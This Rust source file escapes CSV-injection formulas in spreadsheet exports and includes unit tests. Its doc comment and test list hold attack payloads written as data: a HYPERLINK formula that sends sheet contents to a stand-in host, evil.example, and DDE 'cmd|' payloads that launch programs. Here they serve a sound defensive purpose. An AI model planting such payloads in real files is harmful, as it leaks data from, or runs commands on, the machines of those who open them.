//! Cells for files a person opens in a spreadsheet (the journal's CSV for Excel, later the
//! XLSX report). A caller's display name and an operator's text are untrusted: a cell that
//! starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel and
//! LibreOffice (`=HYPERLINK(…)` exfiltrates the sheet, `@SUM(…)*cmd|…` runs commands). Per
//! OWASP's CSV-injection guidance such a cell gets a leading `'`, which both programs show
//! as text. A plain number (`+79781234567`, `-3.5`) is no formula and is left as it is, so
//! phone numbers stay readable.

/// Makes `cell` safe to open in a spreadsheet, in place.
pub fn neutralise(cell: &mut String) {
    if needs_quote(cell) {
        cell.insert(0, '\'');
    }
}

fn needs_quote(cell: &str) -> bool {
    let Some(first) = cell.chars().next() else {
        return false;
    };
    if !matches!(first, '=' | '+' | '-' | '@' | '\t' | '\r') {
        return false;
    }
    !is_plain_number(cell)
}

/// `[+-]digits[.digits]`, nothing else.
fn is_plain_number(cell: &str) -> bool {
    let body = cell.strip_prefix(['+', '-']).unwrap_or(cell);
    let (int, frac) = body.split_once('.').unwrap_or((body, "0"));
    !int.is_empty()
        && !frac.is_empty()
        && int.bytes().all(|b| b.is_ascii_digit())
        && frac.bytes().all(|b| b.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::neutralise;

    fn n(s: &str) -> String {
        let mut s = s.to_string();
        neutralise(&mut s);
        s
    }

    #[test]
    fn formulas_become_text() {
        for f in [
            "=HYPERLINK(CONCAT('http://evil.example/?',A1),'Click')",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=1+1",
            "+1+1",
            "-2+3",
            "\t=1",
            "\r=1",
            "+cmd|' /C calc'!A0",
            "-",
            "+",
        ] {
            assert_eq!(n(f), format!("'{f}"), "{f:?}");
        }
    }

    #[test]
    fn ordinary_cells_and_numbers_are_unchanged() {
        for s in [
            "",
            "Иванов И.И.",
            "+79781234567",
            "-3.5",
            "12.5",
            "a=1",
            "банкомат не выдал деньги",
        ] {
            assert_eq!(n(s), s, "{s:?}");
        }
    }
}
